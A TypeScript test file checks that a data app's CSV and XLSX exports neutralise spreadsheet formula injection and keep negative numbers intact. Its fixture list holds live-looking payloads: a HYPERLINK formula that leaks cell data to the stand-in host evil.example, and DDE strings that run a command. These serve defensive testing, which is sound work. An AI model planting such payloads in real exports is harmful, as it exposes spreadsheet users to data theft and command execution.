import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'

import type { DownloadRow } from '@/lib/series/download'

import { neutraliseCsvCell, restoreCsvCell } from '@/lib/csv/formulaCells'
import { EXPORT_HEADERS, rowsToCsv, rowsToXlsx } from '@/lib/import/observations/export'
import { csvToTable } from '@/lib/import/observations/parseTable'
import { DOWNLOAD_COLUMNS, downloadRowsToCsv } from '@/lib/series/download'

/** Text a spreadsheet would run: each formula-starting character of OWASP's list, and DDE. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''=twice quoted",
]
/** Numbers analysts download (negative growth rates): a spreadsheet reads them as numbers. */
const NUMBERS = ['-3.5', '+12', '1e6', '-1.5E-3', '.5', '-0']
/** Ordinary text, apostrophes included, that must come out as typed. */
const ORDINARY = ['Kazakhstan', "'tis", "'", "'-3.5", 'a=b', '', ' =1 (leading space)', '3-5']
const FORMULA_START = /^[=+\-@\t\r]/

const downloadRow = (text: string, value = -3.5): DownloadRow => ({
  country: 'kazakhstan',
  country_name: text,
  indicator: 'gdp-growth',
  indicator_name: text,
  observation_id: '1',
  partner: '',
  partner_name: '',
  period: '2024',
  period_end: '2024-12-31',
  period_start: '2024-01-01',
  qualifier: 'actual',
  qualifier_note: text,
  source: text,
  source_accessed: '',
  source_url: '',
  subject: text,
  unit: '%',
  value,
  value_max: null,
})

/** Cells of a CSV as a spreadsheet reads them, header row left out. */
const cellsOf = (csv: string): string[] =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true })
    .data.slice(1)
    .flat()

const isFormula = (cell: string) => FORMULA_START.test(cell) && !NUMBERS.includes(cell)

describe('CSV formula neutralisation', () => {
  it('should put an apostrophe before text starting with = + - @ tab or carriage return', () => {
    for (const text of HOSTILE) {
      const cell = String(neutraliseCsvCell(text))
      expect(cell, JSON.stringify(text)).toBe(`'${text}`)
    }
  })

  it('should leave plain numbers, numeric values and ordinary text as they are', () => {
    for (const text of [...NUMBERS, ...ORDINARY]) {
      expect(neutraliseCsvCell(text), JSON.stringify(text)).toBe(text)
    }
    expect(neutraliseCsvCell(-3.5)).toBe(-3.5)
    expect(neutraliseCsvCell(null)).toBeNull()
  })

  it('should undo exactly its own neutralisation when a cell is read back', () => {
    for (const text of [...HOSTILE, ...NUMBERS, ...ORDINARY]) {
      expect(restoreCsvCell(String(neutraliseCsvCell(text))), JSON.stringify(text)).toBe(text)
    }
  })

  it('should write no formula into the comparison download, and keep negative values as numbers', () => {
    const csv = downloadRowsToCsv([...HOSTILE, ...ORDINARY].map((text) => downloadRow(text)))
    const cells = cellsOf(csv)
    expect(cells.filter(isFormula)).toEqual([])
    const valueColumn = DOWNLOAD_COLUMNS.indexOf('value')
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1)
    expect(new Set(rows.map((row) => row[valueColumn]))).toEqual(new Set(['-3.5']))
  })

  it('should write no formula into the observations export, and read it back as exported', () => {
    const rows = HOSTILE.map((text) => {
      const row: (number | string)[] = EXPORT_HEADERS.map(() => '')
      row[EXPORT_HEADERS.indexOf('note')] = text
      row[EXPORT_HEADERS.indexOf('value')] = -3.5
      return row
    })
    const csv = rowsToCsv(rows)
    expect(cellsOf(csv).filter(isFormula)).toEqual([])
    const table = csvToTable(csv)
    const note = table.headers.indexOf('note')
    expect(table.rows.map((row) => row.cells[note])).toEqual(HOSTILE)
    expect(table.rows.map((row) => row.cells[table.headers.indexOf('value')])).toEqual(HOSTILE.map(() => '-3.5'))
  })

  it('should write formula-like text into XLSX as text cells, never as formulas', async () => {
    const rows = HOSTILE.map((text) => EXPORT_HEADERS.map((header) => (header === 'note' ? text : '')))
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await rowsToXlsx(rows)) as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0]!
    const notes = HOSTILE.map((_, index) => sheet.getRow(index + 2).getCell(EXPORT_HEADERS.indexOf('note') + 1))
    expect(notes.map((cell) => cell.type)).toEqual(HOSTILE.map(() => ExcelJS.ValueType.String))
    expect(notes.map((cell) => cell.formula)).toEqual(HOSTILE.map(() => undefined))
    // exceljs stores a carriage return as XML, which reads it back as a line feed.
    expect(notes.map((cell) => cell.value)).toEqual(HOSTILE.map((text) => text.replace(/\r/g, '\n')))
  })
})
